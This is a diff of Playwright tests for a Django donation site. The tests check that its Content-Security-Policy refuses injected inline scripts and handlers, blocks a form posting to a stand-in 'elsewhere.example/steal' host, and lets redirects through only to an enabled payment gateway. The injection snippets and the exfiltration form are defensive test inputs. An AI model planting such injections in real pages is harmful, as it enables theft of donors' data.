@@ -28,8 +28,14 @@ def bare(browser, joud_server, tmp_path):
 
 
 def show(journey, body: str) -> None:
-    journey.goto("/healthz")  # a page of the server under test, then replaced by ours
-    journey.page.set_content(ARABIC_PAGE.format(body=body), wait_until="load")
+    """``body`` in an Arabic page at an address of the server under test, served without the
+    server's Content-Security-Policy (which would refuse these examples before the checks do)."""
+    url = journey.url("/harness-page/")
+    html = ARABIC_PAGE.format(body=body)
+    journey.page.route(
+        url, lambda route: route.fulfill(body=html, content_type="text/html; charset=utf-8")
+    )
+    journey.page.goto(url, wait_until="load")
 
 
 def test_a_request_outside_the_platform_is_blocked_and_reported(bare):
@@ -71,3 +77,92 @@ def test_a_failing_step_names_itself_and_its_screenshot(bare):
     note = "\n".join(failure.value.__notes__)
     assert "'look for the give button'" in note
     assert bare.failed_step[1].exists() and str(bare.failed_step[1]) in note
+
+
+def test_inline_code_refused_by_the_sites_policy_is_reported(bare):
+    """On a real page of the server (its real policy): an inline handler, style attribute and
+    script added to the page are refused by the browser, and the harness reports each."""
+    bare.goto("/initiatives/")
+    assert "script-src 'self'" in bare.page.evaluate(
+        "fetch(location.href).then((r) => r.headers.get('content-security-policy'))"
+    )
+    assert bare.csp_violations == []  # the page itself is clean
+    bare.page.evaluate(
+        """() => {
+        document.body.insertAdjacentHTML('beforeend',
+          '<p style="color: red">x</p><img alt="" src="/static/none.png" onerror="window.x = 1">');
+        const s = document.createElement('script');
+        s.textContent = 'window.y = 1';
+        document.body.appendChild(s);
+    }"""
+    )
+    bare.page.wait_for_timeout(300)
+    found = "\n".join(bare.csp_violations)
+    assert "style-src-attr" in found, found
+    assert "script-src-elem" in found, found
+    assert "script-src-attr" in found, found
+    assert any("Content-Security-Policy" in p for p in bare.problems())
+
+
+def test_a_form_sent_to_another_site_is_refused_and_reported(bare):
+    bare.goto("/initiatives/")
+    bare.page.evaluate(
+        """() => {
+        document.body.insertAdjacentHTML('beforeend',
+          '<form id="away" method="post" action="https://elsewhere.example/steal"></form>');
+        document.getElementById('away').submit();
+    }"""
+    )
+    bare.page.wait_for_timeout(500)
+    found = "\n".join(bare.csp_violations)
+    assert "form-action" in found, found
+    assert not any("elsewhere.example" in r for r in bare.external_requests)
+
+
+GIVE_FORM = """<!doctype html><html lang="ar" dir="rtl"><head><title>جود</title></head>
+<body><main><form method="post" action="start/"><button>تبرع</button></form></main></body></html>"""
+
+
+@pytest.mark.parametrize(
+    ("providers", "reaches_gateway"), [(["thawani"], True), (["sandbox"], False)]
+)
+def test_the_donation_forms_redirect_to_the_gateway_passes_only_when_it_is_enabled(
+    bare, providers, reaches_gateway
+):
+    """Chromium holds the redirect that answers a form post to ``form-action`` too: the policy
+    built for an enabled gateway lets the donor reach its hosted page, any other refuses."""
+    from django.utils.csp import build_policy
+
+    from joud.settings.csp import csp_policy
+
+    policy = build_policy(csp_policy(providers, "https://checkout.thawani.om"))
+    page = bare.page
+    page.route(
+        bare.url("/harness-give/"),
+        lambda route: route.fulfill(
+            body=GIVE_FORM,
+            content_type="text/html; charset=utf-8",
+            headers={"Content-Security-Policy": policy},
+        ),
+    )
+    page.route(
+        bare.url("/harness-give/start/"),
+        lambda route: route.fulfill(
+            status=302, headers={"Location": "https://checkout.thawani.om/pay/session-1"}
+        ),
+    )
+    page.goto(bare.url("/harness-give/"))
+    page.locator("button").click()
+    for _ in range(50):  # whichever comes first: the gateway's page asked for, or the refusal
+        reached = any("checkout.thawani.om" in r for r in bare.external_requests)
+        refused = any("form-action" in v for v in bare.csp_violations)
+        if reached or refused:
+            break
+        page.wait_for_timeout(100)
+    page.wait_for_timeout(300)  # and nothing else after it
+    reached = any("checkout.thawani.om" in r for r in bare.external_requests)
+    refused = any("form-action" in v for v in bare.csp_violations)
+    assert (reached, refused) == (reaches_gateway, not reaches_gateway), (
+        bare.external_requests,
+        bare.csp_violations,
+    )
